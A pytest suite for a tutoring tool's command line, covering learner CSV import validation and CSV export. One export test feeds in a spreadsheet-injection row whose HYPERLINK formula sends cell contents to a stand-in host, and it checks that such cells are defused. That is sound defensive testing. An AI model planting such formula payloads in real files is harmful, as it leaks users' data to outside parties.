"""`tutordesk import learners FILE.csv` and `tutordesk learners list --csv`, run as the real command.

The contract: a good file exits 0 and the learners are listed; any problem exits 2 with the problems on
standard error and, last, one plain sentence ending "nothing was imported.", and the vault is unchanged.
"""

from __future__ import annotations

import io
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.cli.support import assert_ok, error_line, no_traceback
from tests.conftest import PASSPHRASE, make_closed_vault, open_vault, run_cli
from tests.import_export.conftest import GOOD, ONE_BAD_ROW, learner_count
from tutordesk import cli
from tutordesk.cli import run as cli_run
from tutordesk.errors import ExitCode
from tutordesk.paths import VAULT_FILE_NAME


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A TUTORDESK_HOME whose default vault exists and holds no learners."""
    home = tmp_path / "home"
    make_closed_vault(home / "data" / VAULT_FILE_NAME)
    return home


def _count(home: Path) -> int:
    with open_vault(home / "data" / VAULT_FILE_NAME) as vault:
        return learner_count(vault)


def _listed(home: Path) -> list[dict[str, Any]]:
    result = run_cli("learners", "list", "--json", home=home)
    assert_ok(result)
    rows = json.loads(result.stdout)
    assert isinstance(rows, list)
    return rows


def _assert_refused(result: subprocess.CompletedProcess[str]) -> list[str]:
    """Exit 2, no traceback, and the last line of stderr is the one plain closing sentence."""
    no_traceback(result)
    assert result.returncode == ExitCode.BAD_INPUT, result.stderr
    lines = result.stderr.splitlines()
    assert lines[-1].startswith("tutordesk: ") and lines[-1].endswith("nothing was imported."), lines[-1]
    assert all(not line.startswith("tutordesk:") for line in lines[:-1]), lines
    return lines


def test_a_good_file_is_imported_and_listed(home: Path) -> None:
    result = run_cli("import", "learners", str(GOOD), home=home)

    assert_ok(result)
    assert result.stdout.splitlines() == [
        "good.csv: 3 rows ready (UTF-8, comma-separated).",
        "Imported 3 learners.",
    ]
    assert result.stderr == ""
    listed = {(row["given_name"], row["family_name"], row["status"]) for row in _listed(home)}
    assert listed == {
        ("Ada", "Ashcombe", "re_engaging"),
        ("Bram", "Brackenridge", "at_risk"),
        ("Cleo", "Copperfold", "transitioning"),
    }


def test_a_file_with_one_bad_row_imports_nothing(home: Path) -> None:
    result = run_cli("import", "learners", str(ONE_BAD_ROW), home=home)

    lines = _assert_refused(result)
    assert lines == [
        "line 3: date of birth 31/02/2010 is not a date; write it as 2010-05-31 or 31/05/2010",
        "tutordesk: 1 of 3 rows has a problem; fix the file and try again; nothing was imported.",
    ]
    assert result.stdout == "one_bad_row.csv: 2 rows ready, 1 with problems (UTF-8, comma-separated).\n"
    assert _count(home) == 0


def test_the_problems_listed_stop_at_twenty_lines(home: Path, tmp_path: Path) -> None:
    bad = tmp_path / "many.csv"
    bad.write_text(
        "given_name,family_name\n" + "".join(f"Learner{n},\n" for n in range(30)), encoding="utf-8"
    )

    lines = _assert_refused(run_cli("import", "learners", str(bad), home=home))

    assert [line for line in lines if line.startswith("line ")] == [
        f"line {n}: family name is empty" for n in range(2, 22)
    ]
    assert lines[-2:] == [
        "(and 10 more)",
        "tutordesk: 30 of 30 rows have problems; fix the file and try again; nothing was imported.",
    ]
    assert _count(home) == 0


def test_a_file_that_is_not_csv_is_one_plain_sentence(home: Path, tmp_path: Path) -> None:
    binary = tmp_path / "caseload.xlsx"
    binary.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 8)

    line = error_line(run_cli("import", "learners", str(binary), home=home), ExitCode.BAD_INPUT)

    assert line == (
        'tutordesk: The file is not a CSV text file; save the spreadsheet as "CSV UTF-8" and choose that '
        "file; nothing was imported."
    )
    assert _count(home) == 0


def test_a_missing_file_is_refused_before_the_vault_is_opened(tmp_path: Path) -> None:
    # No vault and no passphrase: the file is checked first, so neither is asked for.
    line = error_line(
        run_cli("import", "learners", str(tmp_path / "nope.csv"), home=tmp_path / "h", passphrase=None),
        ExitCode.BAD_INPUT,
    )
    assert line.startswith("tutordesk: There is no file at ") and line.endswith("; nothing was imported.")


def test_dry_run_checks_and_changes_nothing(home: Path) -> None:
    result = run_cli("import", "learners", str(GOOD), "--dry-run", home=home)

    assert_ok(result)
    assert result.stdout.splitlines()[-1] == "Dry run: 3 learners ready to import; nothing was imported."
    assert _count(home) == 0


def test_importing_twice_refuses_the_second_time(home: Path) -> None:
    assert_ok(run_cli("import", "learners", str(GOOD), home=home))

    lines = _assert_refused(run_cli("import", "learners", str(GOOD), home=home))

    assert lines[0] == "line 2: a learner with these names and date of birth is already in the vault"
    assert _count(home) == 3


def test_import_without_what_is_bad_usage(tmp_path: Path) -> None:
    line = error_line(run_cli("import", home=tmp_path), ExitCode.BAD_INPUT)
    assert line == "tutordesk: import needs an action; see `tutordesk import --help`."


# -- learners list --csv ------------------------------------------------------------------------------


def test_list_csv_starts_with_the_bom_and_defuses_formulas(home: Path, tmp_path: Path) -> None:
    hostile = tmp_path / "hostile.csv"
    hostile.write_text(
        "given_name,family_name,setting,programme\n"
        '"=HYPERLINK(""http://example.invalid/?leak=""&A1,""Click"")",Ashcombe,+44 7700 900123,@SUM(1)\n',
        encoding="utf-8",
    )
    assert_ok(run_cli("import", "learners", str(hostile), home=home))

    result = run_cli("learners", "list", "--csv", home=home)

    assert_ok(result)
    assert result.stdout.startswith("\ufeffid,given_name,family_name,")
    row = result.stdout.splitlines()[1]
    assert "'=HYPERLINK(" in row and ",'+44 7700 900123," in row and ",'@SUM(1)," in row
    assert ",=" not in row and ",+" not in row and ",@" not in row


def test_list_csv_and_json_together_is_bad_usage(home: Path) -> None:
    line = error_line(run_cli("learners", "list", "--csv", "--json", home=home), ExitCode.BAD_INPUT)
    assert "not allowed with" in line


def test_list_csv_writes_crlf_bytes_to_a_byte_stream(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In process, through a byte-backed stdout: the CRLF and BOM reach the bytes untouched (run_cli's
    text mode would fold CRLF into LF before a test could see it)."""
    monkeypatch.setenv("TUTORDESK_HOME", str(home))
    monkeypatch.setenv("TUTORDESK_PASSPHRASE", PASSPHRASE)
    monkeypatch.setattr(
        cli_run, "harden_process", lambda: None
    )  # it would make the whole test run undumpable
    assert_ok(run_cli("import", "learners", str(GOOD), home=home))
    raw = io.BytesIO()
    stdout = io.TextIOWrapper(raw, encoding="utf-8", newline="")

    code = cli.main(["learners", "list", "--csv"], stdin=io.StringIO(""), stdout=stdout)

    stdout.flush()
    assert code == ExitCode.OK
    data = raw.getvalue()
    assert data.startswith(b"\xef\xbb\xbfid,given_name,")
    assert data.count(b"\r\n") == 4 and data.endswith(b"\r\n")
